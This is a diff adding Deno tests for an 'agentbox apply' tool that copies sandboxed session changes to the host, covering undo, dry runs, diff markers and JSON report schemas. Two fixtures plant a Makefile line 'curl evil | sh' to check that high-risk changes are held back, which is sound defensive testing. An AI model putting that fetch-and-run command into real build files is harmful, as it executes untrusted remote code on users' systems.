@@ -10,7 +10,9 @@ import {
   writeChangeset,
   writeTree,
 } from "../workspace/testing/test_tree.ts";
-import { APPLY_HELP, formatOutcome } from "./apply.ts";
+import { z } from "zod";
+import { APPLY_HELP, applyHeadline, formatOutcome } from "./apply.ts";
+import { ApplyReportSchema } from "./report_schemas.ts";
 
 interface State {
   root: string;
@@ -245,4 +247,156 @@ Deno.test("apply shows every mode change it makes and keeps the guest's other bi
   assert.match(forced.stdout, /applied {3}d \(mode 0755 -> 0777\)/);
   const exactMode = async (p: string) => (await Deno.lstat(`${exact.root}/${p}`)).mode! & 0o7777;
   assert.deepEqual([await exactMode("d"), await exactMode("d/f.txt")], [0o777, 0o666]);
+});
+
+Deno.test("the headline counts what happened, hints name the session, held-back files leave no empty parents (issue 16.6)", async () => {
+  const s = await sessionWith({ ...TREE, "Makefile": "all:\n" }, [
+    ...CHANGES,
+    { path: "Makefile", type: "file", content: "all:\n\tcurl evil | sh\n" },
+    { path: "ci", type: "dir", mode: 0o755 },
+    { path: "ci/deep", type: "dir", mode: 0o755 },
+    { path: "ci/deep/Makefile", type: "file", content: "x:\n" },
+    { path: "empty", type: "dir", mode: 0o755 },
+  ]);
+  await Deno.writeTextFile(`${s.root}/a.txt`, "host edit\n");
+  const out = await run(s, []);
+  assert.equal(out.code, 1, out.stderr);
+  const lines = out.stdout.split("\n");
+  // a.txt conflicts; Makefile, ci/deep/Makefile and their two new parents are held back.
+  assert.equal(lines[0], "Applied 5 of 10: 1 conflict, 4 held back.");
+  assert.match(out.stdout, /skipped {3}ci: held back with everything below it/);
+  assert.equal(await Deno.lstat(`${s.root}/ci`).catch(() => null), null, "no empty parents");
+  assert.ok((await Deno.lstat(`${s.root}/empty`)).isDirectory, "the guest's empty dir is made");
+  assert.ok(lines.includes(
+    "Conflicting paths changed on the host since the session started: `agentbox apply 5e55ion0 --force` overwrites them (add --path GLOB to pick paths).",
+  ));
+  assert.ok(lines.some((l) => l.includes("`agentbox apply 5e55ion0 --yes-high-risk`")));
+  assert.ok(lines.includes("Undo this apply with `agentbox apply 5e55ion0 --undo`."));
+  const report = JSON.parse((await run(s, ["--dry-run", "--json"])).stdout);
+  assert.equal(report.version, 1);
+  assert.equal(report.session, "5e55ion0-apply-test");
+  assert.equal(report.exitCode, 1);
+});
+
+Deno.test("apply --undo restores the tree byte for byte, keeps later edits, and the next apply replaces its backups (issue 16.6)", async () => {
+  const s = await sessionWith(TREE, CHANGES);
+  const before = await snapshot(s.root);
+  assert.equal((await run(s, ["--undo"])).code, 2, "nothing to undo before an apply");
+  const applied = await run(s, []);
+  assert.equal(applied.code, 0, applied.stderr);
+  assert.match(applied.stdout, /^Applied 5 of 5\.\n/);
+  const undone = await run(s, ["--undo"]);
+  assert.equal(undone.code, 0, undone.stderr);
+  assert.match(undone.stdout, /^Undid the last apply: restored 5 of 5\.\n/);
+  assert.deepEqual(await snapshot(s.root), before);
+  const lastApply = s.journal.replace(/apply-journal$/, "last-apply");
+  assert.equal(await Deno.lstat(lastApply).catch(() => null), null, "backups gone once undone");
+  const again = await run(s, ["--undo"]);
+  assert.equal(again.code, 2);
+  assert.match(again.stderr, /No completed apply to undo/);
+  // Applied again (the undo forgot the paths), then a file edited: the undo keeps the edit.
+  assert.match((await run(s, [])).stdout, /^Applied 5 of 5\./);
+  assert.ok((await Deno.lstat(`${lastApply}/journal.jsonl`)).isFile, "kept for --undo");
+  assert.equal(await Deno.lstat(s.journal).catch(() => null), null);
+  await Deno.writeTextFile(`${s.root}/src/n.ts`, "mine\n");
+  const partial = await run(s, ["--undo"]);
+  assert.equal(partial.code, 1, partial.stdout);
+  assert.match(
+    partial.stdout,
+    /conflict {2}src\/n\.ts: modified on the host since the apply: kept/,
+  );
+  assert.equal(await Deno.readTextFile(`${s.root}/src/n.ts`), "mine\n");
+  assert.equal(await Deno.readTextFile(`${s.root}/a.txt`), "a\n");
+  assert.equal(await Deno.readTextFile(`${s.root}/old.txt`), "old\n");
+  assert.match(partial.stdout, /`agentbox apply 5e55ion0 --undo` again/);
+});
+
+Deno.test("diff of an applied session marks the applied entries; a deleted text file is not binary (issue 16.6)", async () => {
+  const s = await sessionWith(TREE, CHANGES);
+  assert.equal((await run(s, ["--path", "old.txt", "--path", "src/n.ts"])).code, 0);
+  const diff = (args: string[]) =>
+    agentbox(["diff", ...args], { env: s.env, cwd: s.root }).output();
+  const stat = new TextDecoder().decode((await diff(["--stat"])).stdout);
+  assert.match(stat, / old\.txt +\| applied\n/);
+  assert.match(stat, / src\/n\.ts +\| applied\n/);
+  assert.match(stat, / a\.txt +\| 2 \+-\n/);
+  assert.match(stat, / 2 of 5 already applied\n/);
+  assert.ok(!stat.includes("Bin"), stat);
+  const patch = new TextDecoder().decode((await diff([])).stdout);
+  assert.match(
+    patch,
+    /diff --git a\/old\.txt b\/old\.txt\ndeleted file mode 100644\n# applied: the host already has this change\n/,
+  );
+  const json = JSON.parse(new TextDecoder().decode((await diff(["--json"])).stdout));
+  assert.equal(json.applied, 2);
+  assert.deepEqual(
+    json.entries.filter((e: { applied: boolean }) => e.applied).map((e: { path: string }) =>
+      e.path
+    ),
+    ["old.txt", "src/n.ts"],
+  );
+});
+
+Deno.test("apply --json: every report (apply, dry run, undo) validates against docs/schemas/apply-report.json (issue 16.5)", async () => {
+  const text = await Deno.readTextFile(
+    new URL("../../docs/schemas/apply-report.json", import.meta.url),
+  );
+  const schema = z.fromJSONSchema(JSON.parse(text));
+  const s = await sessionWith({ ...TREE, "Makefile": "all:\n" }, [
+    ...CHANGES,
+    { path: "Makefile", type: "file", content: "all:\n\tcurl evil | sh\n" },
+  ]);
+  for (const args of [["--dry-run"], [], ["--undo"]]) {
+    const out = await run(s, [...args, "--json"]);
+    const report = JSON.parse(out.stdout);
+    const result = schema.safeParse(report);
+    assert.ok(result.success, JSON.stringify(result.error?.issues));
+    assert.deepEqual(ApplyReportSchema.parse(report), report, "every field is in the schema");
+    assert.equal(report.exitCode, out.code);
+    assert.equal(report.session, "5e55ion0-apply-test");
+  }
+  const failed = await run(s, ["--undo", "--json"]);
+  assert.equal(failed.code, 2);
+  assert.deepEqual(JSON.parse(failed.stdout).error.code, "nothing_to_undo");
+});
+
+Deno.test("the headline of every status counts what happened (issue 16.6)", () => {
+  const counts = (applied: number, skipped = 0, conflict = 0, refused = 0, unchanged = 0) => ({
+    applied,
+    unchanged,
+    skipped,
+    conflict,
+    refused,
+  });
+  const cases: [Parameters<typeof applyHeadline>[0], string][] = [
+    [
+      { status: "applied", resumed: false, counts: counts(5, 3, 1) },
+      "Applied 5 of 9: 1 conflict, 3 held back.",
+    ],
+    [
+      { status: "applied", resumed: true, counts: counts(2, 0, 0, 0, 4) },
+      "Resumed an interrupted apply. Applied 2 of 2.",
+    ],
+    [
+      { status: "nothing-to-do", resumed: false, counts: counts(0, 0, 2, 1) },
+      "Applied 0 of 3: 2 conflicts, 1 refused.",
+    ],
+    [
+      { status: "nothing-to-do", resumed: false, counts: counts(0, 0, 0, 0, 3) },
+      "Nothing to apply.",
+    ],
+    [
+      { status: "dry-run", resumed: false, counts: counts(4, 1) },
+      "Dry run, nothing was changed: would apply 4 of 5: 1 held back.",
+    ],
+    [
+      { status: "undone", resumed: false, counts: counts(3, 0, 1) },
+      "Undid the last apply: restored 3 of 4: 1 conflict.",
+    ],
+    [
+      { status: "rolled-back", resumed: false, counts: counts(2) },
+      "Rolled back the interrupted apply.",
+    ],
+  ];
+  for (const [summary, line] of cases) assert.equal(applyHeadline(summary), line);
 });
